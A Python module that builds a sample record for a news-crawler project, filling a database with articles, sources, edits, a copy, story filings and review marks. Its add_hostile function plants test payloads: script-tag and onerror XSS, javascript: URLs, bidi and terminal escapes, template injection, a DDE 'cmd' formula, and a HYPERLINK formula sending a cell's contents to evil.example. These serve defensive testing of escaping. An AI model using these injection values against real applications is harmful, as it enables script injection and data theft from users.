"""A record to look at: a few weeks of a small beat, filled through `db.store` as the crawl does it."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

from sample_texts import SHORT, TEXTS, Text

from db.filing import Filing, Profile
from db.marks import append_review
from db.model import (
    Article,
    Candidate,
    Capture,
    Evidence,
    FetchRecord,
    Fingerprint,
    Judgement,
    Likeness,
    Outcome,
    Page,
    Removed,
    Revision,
    Source,
    from_iso,
)
from db.store import Store
from db.watched import SourceState

THRESHOLD = 4.0
HOSTILE_TITLE = (
    '<script>document.title="owned"</script><b onmouseover=alert(1)>Bold</b> \u202egnp.exe \x1b[31mred'
)
SITES = {
    "Orbital Gazette": "gazette.example",
    "Launchpad Weekly": "launchpad.example",
    "The Harbour Post": "harbour.example",
}


class Sample:
    """A record under construction; *now* is when everything happens unless a text says otherwise."""

    def __init__(self, path: Path, now: datetime) -> None:
        self.store = Store.open(path, now=now)
        self.now = now
        self.run_id: int | None = None
        #: every version that was appended
        self.revisions: list[Revision] = []

    def source(
        self, id: str, title: str, *, failures: float = 0.0, reason: str = "12 entries, 2 new", **more: object
    ) -> None:
        """A source that was polled ten minutes ago."""
        source = Source(
            id=id,
            title=title,
            kind="feed",
            url=f"https://{id}.example/feed",
            beat="space-films",
            every_s=1800.0,
        )
        self.store.schedule_sources(
            [*(state.source for state in self.store.source_states()), source], self.now - timedelta(days=20)
        )
        polled = self.now - timedelta(minutes=10)
        state = SourceState(
            source=source,
            checked_at=polled,
            succeeded_at=polled if not failures else self.now - timedelta(days=9),
            next_due_at=self.now + timedelta(minutes=20),
            failures=failures,
            outcome=Outcome.FAILED if failures else Outcome.UNCHANGED,
            reason=reason,
            state="dead" if failures else "ok",
            state_reason=reason,
        )
        self.store.schedule_source(replace(state, **more) if more else state)  # type: ignore[arg-type]

    def article(
        self, told: Text, *, at: datetime | None = None, likeness: Likeness | None = None, **changed: object
    ) -> Revision | None:
        """Append one version of an article, judged and visited."""
        article = replace(self._read(told), **changed)  # type: ignore[arg-type]
        at = at or from_iso(told.published) + timedelta(minutes=20)
        kind = likeness or Likeness(kind="new")
        outcome = {"new": Outcome.NEW, "changed": Outcome.CHANGED, "unchanged": Outcome.UNCHANGED}.get(
            kind.kind, Outcome.COPY
        )
        page = Page(
            url=article.url,
            final_url=article.url,
            status=200,
            headers=(),
            body=article.text.encode(),
            fetched_at=at,
        )
        candidate = Candidate(
            url=article.url, source=told.source, found_on="https://gazette.example/feed", found_at=at
        )
        evidence = tuple(
            Evidence(term=t, concept=c, field=f, count=n, weight=w) for t, c, f, n, w in told.evidence
        )
        band = "relevant" if told.score >= THRESHOLD else "mention" if told.score >= 2 else "off"
        judgement = Judgement(
            topic_id="space-films",
            score=told.score,
            threshold=THRESHOLD,
            band=band,
            evidence=evidence,
            ruleset="5f2c" * 16,
        )
        record = FetchRecord(
            url=article.url,
            final_url=article.url,
            source=told.source,
            purpose="new" if outcome is Outcome.NEW else "recheck",
            started_at=at,
            elapsed_ms=412,
            status=200,
            outcome=outcome,
            reason=f"{outcome.value}, {band} with {told.score:g}",
            received_bytes=48_211,
            page_sha256=page.sha256,
            score=told.score,
            evidence=evidence,
        )
        capture = Capture(candidate=candidate, page=page, article=article, judgements=(judgement,))
        revision = self.store.append(
            capture, kind, record, self.run_id, keeps=True, fingerprint=_fingerprint(article)
        )
        self.revisions += [revision] if revision else []
        return revision

    def visit(
        self,
        url: str,
        outcome: Outcome,
        reason: str,
        *,
        score: float | None = None,
        source: str = "orbit-feed",
    ) -> None:
        """One row of the ledger that brought no article."""
        evidence = (
            (Evidence(term="film", concept="film", field="title", count=1, weight=score),) if score else ()
        )
        record = FetchRecord(
            url=url, source=source, purpose="new", started_at=self.now - timedelta(hours=5), elapsed_ms=230, status=200,
            outcome=outcome, reason=reason, received_bytes=10_000, score=score, evidence=evidence,
        )  # fmt: skip
        self.store.append_visit(record, self.run_id)

    def _read(self, text: Text) -> Article:
        url = f"https://{SITES.get(text.site, text.source + '.example')}/{text.slug}"
        return Article(
            url=url,
            canonical_url=url,
            title=text.title,
            text=text.text,
            authors=text.authors,
            published_at=from_iso(text.published),
            published_raw=text.published,
            published_precision=text.precision,  # type: ignore[arg-type]
            site_name=text.site,
            section=text.section,
            language=text.language,
            description=text.description,
            tags=text.tags,
            image_url=text.image,
            image_credits=text.credits,
            is_free=True,
            removed=tuple(Removed(rule=rule, text=line, position=at) for rule, line, at in text.removed),
            origins=(
                ("title", "h1"),
                ("published_at", "json-ld datePublished"),
                ("authors", "json-ld author"),
                ("tags", "closing line"),
            ),
            extractor="spacereel 0.1.0 / trafilatura 2.3.1",
        )


def _fingerprint(article: Article) -> Fingerprint:
    digest = hashlib.sha256(f"{article.title}\n{article.text}".encode("utf-8", "replace")).hexdigest()
    return Fingerprint(content_sha256=digest, simhash=int(digest[:15], 16), bands=(), site="gazette.example")


def build(path: Path, now: datetime) -> None:
    """Fill a new record at *path*: 11 full articles, 12 short ones, one edited twice, a copy, two hostile ones."""
    sample = Sample(path, now)
    sample.source("orbit-feed", "Orbital Gazette, all")
    sample.source("harbour-feed", "The Harbour Post, culture")
    sample.source("vestnik-sitemap", "Вестник орбиты")
    sample.source("dead-feed", "Cosmic Reel", failures=11.0, reason="404 Not Found, for the eleventh time.")
    sample.run_id = sample.store.start_run("daemon", now - timedelta(minutes=12))
    for text in TEXTS:
        sample.article(text)
    for slug, site, title, day, score in SHORT:
        body = f"{title}, in short.\nThe rest of the story is told elsewhere in this sample, and nobody reads it twice."
        sample.article(
            Text(
                slug=slug,
                site=site,
                title=title,
                text=body,
                published=f"2026-11-{day:02}T09:00:00Z",
                score=score,
            )
        )
    edit_twice(sample)
    add_copy(sample)
    add_hostile(sample)
    add_stories(sample)
    add_ledger(sample)
    sample.store.finish_run(sample.run_id, now - timedelta(minutes=9))
    sample.store.beat_heart(now, 4711)
    sample.store.close()
    review(path, now)


def edit_twice(sample: Sample) -> None:
    """The studio module's story is corrected, then shortened."""
    text = TEXTS[1]
    second = text.text.replace("six metres", "seven metres").replace(
        "Two earlier dates have passed.", "Two earlier dates, 2024 and 2026, have passed."
    )
    third = "\n".join(
        [
            *second.split("\n")[:2],
            "This article was amended on 22 November to give the sphere its true width.",
            second.split("\n")[3],
        ]
    )
    sample.article(
        text,
        at=from_iso("2026-11-21T20:00:00Z"),
        likeness=Likeness(kind="changed", article_id=2, similarity=0.97, changes=("edited",)),
        text=second,
    )
    sample.article(
        text,
        at=from_iso("2026-11-22T09:30:00Z"),
        likeness=Likeness(
            kind="changed", article_id=2, similarity=0.8, changes=("title", "correction note", "shortened")
        ),
        text=third,
        title="Builder named for inflatable film studio, to be docked in 2029 at the earliest",
    )


def add_copy(sample: Sample) -> None:
    """An agency client carries the first article, cut."""
    original = TEXTS[0]
    cut = replace(
        original,
        slug="agency-actress-returns",
        site="The Harbour Post",
        source="harbour-feed",
        authors=("Agency",),
        removed=(),
    )
    sample.article(
        replace(cut, text="\n".join(original.text.split("\n")[:4]), published="2026-11-20T09:40:00Z"),
        likeness=Likeness(kind="near_copy", article_id=1, similarity=0.62),
    )


def add_hostile(sample: Sample) -> None:
    """Pages that try things: markup, direction overrides, terminal escapes, formulas, a title without end."""
    hostile = Text(
        slug="hostile",
        site="<img src=x onerror=alert(2)>",
        title=HOSTILE_TITLE,
        description='=HYPERLINK("https://evil.example/?"&A1,"click")',
        text='<script>alert("in the text")</script>\n{{ 7 * 7 }} {% raw %}\n\u202ereversed\u202c and \x1b]0;title\x07 gone',
        authors=("=cmd|' /C calc'!A0", '"><script>alert(3)</script>'),
        tags=("@SUM(1+1)", "<i>tag</i>"),
        published="2026-11-16T01:00:00Z",
        score=4.4,
        removed=(("<rule>", "<script>alert(4)</script>", 0),),
        evidence=(("<script>alert(5)</script>", "<b>", "title", 1, 2.0),),
        image="javascript:alert(6)",
        source="harbour-feed",
    )
    sample.article(hostile, url="javascript:alert(7)", section="</title><script>alert(8)</script>")
    endless = replace(
        hostile, slug="endless", title="Endless " * 2000, published="2026-11-16T00:00:00Z", image=None
    )
    sample.article(
        replace(endless, text="word " * 60_000),
        published_at=None,
        published_precision=None,
        published_raw=None,
    )


#: articles that are filed one after the other -> how; 1 has a copy, 27 and 28 are hostile
FILED: tuple[tuple[int, Filing], ...] = (
    (1, Filing(story_id=None)),
    (3, Filing(story_id=None, beside=(1,), likeness=0.71)),
    (5, Filing(story_id=None)),
    (4, Filing(story_id=None, beside=(5,), likeness=0.52)),
    (7, Filing(story_id=1, merged=(2,), likeness=0.44)),
    (8, Filing(story_id=1, likeness=0.6)),
    (6, Filing(story_id=1, likeness=0.39)),
    (10, Filing(story_id=1, split=((6, 10),), likeness=0.4)),
    (27, Filing(story_id=None)),
    (28, Filing(story_id=None, beside=(27,), likeness=0.9)),
)


def add_stories(sample: Sample) -> None:
    """The return from the station is one story, of two that were merged; two reports are split off; two hostile ones."""
    found = {each.article_id: each for each in sample.revisions}
    for number, (article, filing) in enumerate(FILED):
        at = sample.now - timedelta(hours=4, minutes=-number)
        of = Profile(terms={"n:rlv": 1.0}, language=None, reported_at=at)
        sample.store.file_report(found[article].canonical_url, article, of, filing, at)


def add_ledger(sample: Sample) -> None:
    """Visits that ended without an article, and pages that wait."""
    sample.visit(
        "https://gazette.example/space-movies-ranked", Outcome.OFF_TOPIC, "score 3.2 is under 4", score=3.2
    )
    sample.visit("https://gazette.example/recipe", Outcome.OFF_TOPIC, "no term of the beat occurs", score=0.0)
    sample.visit("https://harbour.example/private", Outcome.ROBOTS_DENIED, "robots.txt forbids /private")
    sample.visit("https://harbour.example/slow", Outcome.FAILED, "no answer within 30 s")
    sample.visit(
        "https://vestnik-sitemap.example/akterisa-vernulas",
        Outcome.GONE,
        "It answered 410 (Gone).",
        source="vestnik-sitemap",
    )
    waiting = (
        Candidate(
            url=f"https://harbour.example/waiting-{i}",
            source="harbour-feed",
            found_on="https://harbour.example/feed",
            found_at=sample.now,
        )
        for i in range(3)
    )
    sample.store.enqueue(list(waiting), sample.now)


def review(path: Path, now: datetime) -> None:
    """Two people have begun."""
    append_review(path, article_id=6, mark="irrelevant", note="an essay, no shoot", reviewer="root", now=now)
    append_review(path, article_id=5, mark="relevant", note=None, reviewer="root", now=now)
    append_review(path, article_id=10, mark="later", note="ask the festival", reviewer="root", now=now)
